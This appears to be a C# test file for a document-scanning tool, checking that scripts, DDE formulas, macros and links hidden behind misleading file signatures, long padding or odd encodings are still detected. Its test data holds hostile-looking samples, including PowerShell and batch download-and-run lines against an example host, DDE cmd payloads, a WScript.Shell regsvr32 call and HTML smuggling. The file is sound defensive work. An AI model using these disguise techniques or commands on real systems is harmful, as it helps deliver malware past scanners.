using System.Text;
using Postvakt.Documents.Report;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Documents.Tests.Inspecting;

/// <summary>What a file looks like must not hide what the program reads that opens it.</summary>
public sealed class DisguiseTests
{
    private const string Code = "var s = new ActiveXObject('WScript.Shell'); s.Run('regsvr32 /s x.ocx');";

    private static byte[] Ascii(string text) => Encoding.Latin1.GetBytes(text);

    [Theory]
    [InlineData("a.js", "From: 1\nTo: 2\nSubject: 3\n")]
    [InlineData("a.js", "MIME: 1\n// MIME-Version: 1.0\n")]
    [InlineData("a.js", "// <html>\n")]
    [InlineData("a.js", "var a = '<svg xmlns=\"http://www.w3.org/2000/svg\">';\n")]
    [InlineData("a.js", "/* %PDF-1.7 endobj */\n")]
    [InlineData("a.js", "/* <hta:application> */\n")]
    [InlineData("a.js", "/* urn:schemas-microsoft-com:office:spreadsheet */\n")]
    [InlineData("a.hta", "From: 1\nTo: 2\nSubject: 3\n\n<script>")]
    [InlineData("a.hta", "MIME-Version: 1.0\n\n<script>")]
    [InlineData("a.hta", "{\\rtf1 }<script>")]
    [InlineData("a.hta", "#@~^ <script>")]
    [InlineData("a.wsf", "<!-- <html> --><job><script>")]
    [InlineData("a.bat", "<html>\r\n")]
    [InlineData("a.ps1", "From: 1\nTo: 2\nSubject: 3\n")]
    public void Script_InTheShapeOfText_IsReadAllTheSame(string name, string front) =>
        Assert.True(Look.At(name, front + (name.EndsWith("ps1", StringComparison.Ordinal) ? "iex (New-Object Net.WebClient).DownloadString('https://a.example/x')" : name.EndsWith("bat", StringComparison.Ordinal) ? "curl -o x https://a.example/x\r\npowershell -c x" : Code)).Has(FindingKinds.ScriptActs));

    [Theory]
    [InlineData("a.csv", "<html>,1\r\n=cmd|'/C echo 1'!A0\r\n")]
    [InlineData("a.csv", "From: a\r\nTo: b\r\nSubject: c\r\n=cmd|'/C echo 1'!A0\r\n")]
    [InlineData("a.csv", "%PDF- endobj,1\r\n=cmd|'/C echo 1'!A0\r\n")]
    [InlineData("a.csv", "{\\rtf,1\r\n=cmd|'/C echo 1'!A0\r\n")]
    [InlineData("a.xls", "a\tb\r\n=cmd|'/C echo 1'!A0\r\n")]
    public void Table_InTheShapeOfOtherText_IsReadAllTheSame(string name, string text) => Assert.True(Look.At(name, text).Has(FindingKinds.Dde));

    /// <summary>Excel opens pages, and takes their cells for formulas.</summary>
    [Theory]
    [InlineData("a.xls", "<html><table><tr><td>=cmd|'/C echo 1'!A0</td></tr></table></html>", true)]
    [InlineData("a.xls", "<html><table><tr><td x:fmla=\"=cmd|'/C echo 1'!A0\">1</td></tr></table></html>", true)]
    [InlineData("a.xls", "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<html><td>=cmd|'/C echo 1'!A0</td></html>\r\n--x--\r\n", true)]
    [InlineData("a.xls", "<html><!-- =\"urn:schemas-microsoft-com:office:spreadsheet\" --><table><tr><td>=cmd|'/C echo 1'!A0</td></tr></table></html>", true)]
    [InlineData("a.xls", "<?xml version=\"1.0\"?><html><table><tr><td>=cmd|'/C echo 1'!A0</td></tr></table></html>", true)]
    [InlineData("a.html", "<html><code>=cmd|'/C echo 1'!A0</code></html>", false)]
    public void Formula_InAPageThatExcelOpens_IsFound(string name, string page, bool isFound) => Assert.Equal(isFound, Look.At(name, page).Has(FindingKinds.Dde));

    [Theory]
    [InlineData("a.iqy", "WEB\r\n1\r\nhttps://a.example/x?<html>\r\n")]
    [InlineData("a.url", "[a]\r\nb=<html>\r\n[InternetShortcut]\r\nURL=file://192.0.2.1/a.exe\r\n")]
    public void Link_InTheShapeOfAPage_IsReadAllTheSame(string name, string text) => Assert.NotEmpty(Look.At(name, text).Findings);

    [Theory]
    [InlineData("a.zip", "<html>")]
    [InlineData("a.zip", "{\\rtf1 }")]
    [InlineData("a.zip", "MIME-Version: 1.0\r\n\r\n")]
    [InlineData("a.zip", "ID;P\r\n")]
    [InlineData("a.zip", "From: a\r\nTo: b\r\nSubject: c\r\n\r\n")]
    [InlineData("a.zip", "7z\u00BC\u00AF\u0027\u001C")]
    [InlineData("a.zip", "Rar!\u001A\u0007")]
    [InlineData("a.zip", "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1")]
    [InlineData("a.zip", "\u001F\u008B\u0008")]
    [InlineData("a.jar", "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1")]
    [InlineData("a.zip", "[InternetShortcut]\r\n")]
    [InlineData("a.zip", "@echo off\r\n")]
    public void Zip_BehindTheMarkOfAnotherKind_IsUnpacked(string name, string front) =>
        Assert.True(Look.At(name, [.. Ascii(front), .. ZipMaker.Of("run.js", Ascii(Code))]).Has(FindingKinds.ScriptActs));

    [Theory]
    [InlineData("PK\u0003\u0004")]
    [InlineData("%PDF-1.7\n")]
    [InlineData("GIF89a")]
    [InlineData("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1")]
    [InlineData("<html>")]
    public void Disc_BehindTheMarkOfAnotherKind_IsRead(string mark)
    {
        var disc = new DiscMaker().Add(new DiscFile("run.js", Ascii(Code))).Build();
        Ascii(mark).CopyTo(disc, 0);
        Assert.True(Look.At("a.iso", disc).Has(FindingKinds.ScriptActs));
    }

    [Fact]
    public void Paper_BehindTheMarkOfAPicture_IsRead() =>
        Assert.Contains("https://a.example/1", Look.At("a.pdf", "GIF89a\n%PDF-1.7\n1 0 obj\n<< /Type /Action /S /URI /URI (https://a.example/1) >>\nendobj\n").Urls());

    private static string Archive => "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=\"x\"\r\n\r\n--x\r\nContent-Location: file:///C:/a/editdata.mso\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n"
        + Convert.ToBase64String([.. "ActiveMime"u8, .. new byte[60]]) + "\r\n--x--\r\n";

    [Theory]
    [InlineData("%PDF-1.7\n1 0 obj\n<< >>\nendobj\n")]
    [InlineData("GIF89a\n")]
    [InlineData("some words\n\n")]
    [InlineData("<html>\n")]
    public void WebArchive_BehindTheMarkOfAnotherKind_IsRead(string front) => Assert.True(Look.At("report.doc", front + Archive).Has(FindingKinds.MailedMacros));

    [Fact]
    public void Package_WithAFileThatARelationCallsAPicture_IsOpened()
    {
        var zip = new ZipMaker().Add("[Content_Types].xml", "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>")
            .Add("word/document.xml", "<document/>").Add("word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\"inner.zip\"/></Relationships>")
            .Add("word/inner.zip", ZipMaker.Of("run.js", Ascii(Code)));
        Assert.True(Look.At("a.zip", zip.Build()).Has(FindingKinds.ScriptActs));
    }

    [Fact]
    public void Package_WithALockedFile_IsLocked()
    {
        var zip = new ZipMaker().Add("[Content_Types].xml", "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>")
            .Add("word/document.xml", "<document/>").Add("run.js", Ascii(Code), new ZipOptions { Password = "4711" });
        Assert.True(Look.At("a.zip", zip.Build()).Has(FindingKinds.Locked));
        Assert.True(Look.At("a.zip", zip.Build(), "4711").Has(FindingKinds.ScriptActs));
    }

    [Fact]
    public void OpenDocument_ThatSaysItIsLocked_IsReadAsFarAsItIsNot()
    {
        var zip = new ZipMaker().Add("mimetype", "application/vnd.oasis.opendocument.text", new ZipOptions { Method = 0 }).Add("META-INF/manifest.xml", "<manifest><encryption-data/></manifest>").Add("run.js", Ascii(Code));
        Assert.True(Look.At("a.zip", zip.Build()).Has(FindingKinds.ScriptActs));
    }

    [Theory]
    [InlineData("a.doc")]
    [InlineData("a.xml")]
    public void WordXml_AfterALongComment_IsRead(string name) =>
        Assert.Contains("https://a.example/1", Look.At(name, "<?xml version=\"1.0\"?><!--" + new string('a', 9000) + "--><?mso-application progid=\"Word.Document\"?><w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\"><w:hlink w:dest=\"https://a.example/1\"/></w:wordDocument>").Urls());

    [Theory]
    [InlineData(' ')]
    [InlineData('\n')]
    public void Page_AfterALongGap_IsRead(char gap) => Assert.Contains("https://a.example/1", Look.At("a.doc", new string(gap, 9000) + "<html><a href='https://a.example/1'>x</a></html>").Urls());

    /// <summary>The prompt runs it; an editor shows Chinese.</summary>
    [Theory]
    [InlineData(0xFF, 0xFE)]
    [InlineData(0xFE, 0xFF)]
    public void Batch_BehindTheMarkOfWideCharacters_IsReadAsThePromptDoes(byte first, byte second) =>
        Assert.True(Look.At("a.bat", [first, second, .. Ascii("\r\ncurl -o x https://a.example/x\r\npowershell -c x\r\n")]).Has(FindingKinds.ScriptActs));

    /// <summary>A first relation of another kind to the same part must not keep the project from being read.</summary>
    [Theory]
    [InlineData("word/vbaProject.bin", "image")]
    [InlineData("word/other.bin", "image")]
    [InlineData("word/other.bin", "theme")]
    public void Project_ThatAnotherRelationLeadsToFirst_IsRead(string part, string kind)
    {
        const string Types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        var zip = new ZipMaker().Add("[Content_Types].xml", $"<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/><Override PartName=\"/{part}\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")
            .Add("word/document.xml", "<document/>")
            .Add("word/_rels/document.xml.rels", $"<Relationships><Relationship Id=\"1\" Type=\"{Types}{kind}\" Target=\"/{part}\"/><Relationship Id=\"2\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"/{part}\"/></Relationships>")
            .Add(part, new VbaProjectWriter().Module("Inner", "Sub AutoOpen()\r\nEnd Sub\r\n").ToArray());
        Assert.Single(Look.At("a.docm", zip.Build()).Modules);
    }

    [Fact]
    public void Project_ThatNoRelationLeadsTo_IsReadByItsType()
    {
        var zip = new ZipMaker().Add("[Content_Types].xml", "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/><Override PartName=\"/word/other.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")
            .Add("word/document.xml", "<document/>").Add("word/other.bin", new VbaProjectWriter().Module("Inner", "Sub AutoOpen()\r\nEnd Sub\r\n").ToArray());
        Assert.Single(Look.At("a.docm", zip.Build()).Modules);
    }

    [Theory]
    [InlineData("<a download='x.js' href='data:{0};base64,{1}'>x</a>", "image/png")]
    [InlineData("<a href='data:{0};base64,{1}' download='x.js'>x</a>", "text/plain")]
    public void ScriptThatAPageSaves_WhateverItIsCalled_IsOpened(string page, string type)
    {
        var file = Look.At("a.html", "<html>" + string.Format(System.Globalization.CultureInfo.InvariantCulture, page, type, Convert.ToBase64String(Ascii("GIF8=1;" + Code))) + "</html>");
        Assert.True(file.Has(FindingKinds.PageSmuggles));
        Assert.True(file.Has(FindingKinds.ScriptActs));
    }

    [Fact]
    public void ScriptInAMail_CalledAPicture_IsOpened()
    {
        const string Mail = "From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: image/gif; name=x.js\r\n\r\nGIF8=1;";
        Assert.True(Look.At("a.eml", Mail + Code).Has(FindingKinds.ScriptActs));
    }

    [Fact]
    public void ScriptInANotebook_BehindTheMarkOfAPicture_IsOpened() => Assert.True(Look.At("a.one", Notebook.Write("text", ("invoice.js", Ascii("GIF8=1;" + Code)))).Has(FindingKinds.NotebookCode));

    /// <summary>What is kept of harmless things has a bound; what matters must find room all the same.</summary>
    [Fact]
    public void Command_BehindHundredsOfHarmlessStatements_IsFound()
    {
        var decoys = string.Concat(Enumerable.Range(0, 600).Select(n => $"Application.Visible = False\r\nx{n} = Environ(\"USERNAME\")\r\n"));
        var writer = new CompoundFileWriter().Stream("WordDocument", new byte[9]);
        new VbaProjectWriter().Module("Inner", $"Sub AutoOpen()\r\n{decoys}Shell \"regsvr32 /s x.ocx\"\r\nEnd Sub\r\n").WriteTo(writer, "Macros");
        Assert.Contains(Look.At("a.doc", writer.ToArray()).Effects, e => e.Kind == EffectKind.Execute && e.Target.Contains("regsvr32", StringComparison.Ordinal));
    }

    [Fact]
    public void DdeField_BehindThousandsOfFields_IsFound()
    {
        var fields = string.Concat(Enumerable.Repeat("\x13 PAGE \x14\x31\x15", 3_000));
        Assert.True(Look.At("a.doc", WordDocumentWriter.Write(fields + "\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k echo 1\" \x14result\x15").ToArray()).Has(FindingKinds.Dde));
    }

    [Fact]
    public void Paper_WithAScriptInsideTwentyDictionaries_IsRead() =>
        Assert.True(Look.At("a.pdf", $"%PDF-1.7\n1 0 obj\n{string.Concat(Enumerable.Repeat("<< /A ", 20))}<< /S /JavaScript /JS (app.launchURL\\('https://a.example/1'\\)) >>{string.Concat(Enumerable.Repeat(" >>", 20))}\nendobj\n").Has(FindingKinds.PaperScript));

    [Theory]
    [InlineData("<a/href='https://a.example/1'>x</a>")]
    [InlineData("<iframe/src='https://a.example/1'></iframe>")]
    [InlineData("<svg/onload='location.href=\"https://a.example/1\"'>")]
    public void AttributeBehindASlash_IsRead(string page) => Assert.Contains("https://a.example/1", Look.At("a.html", "<html>" + page).Urls());
}
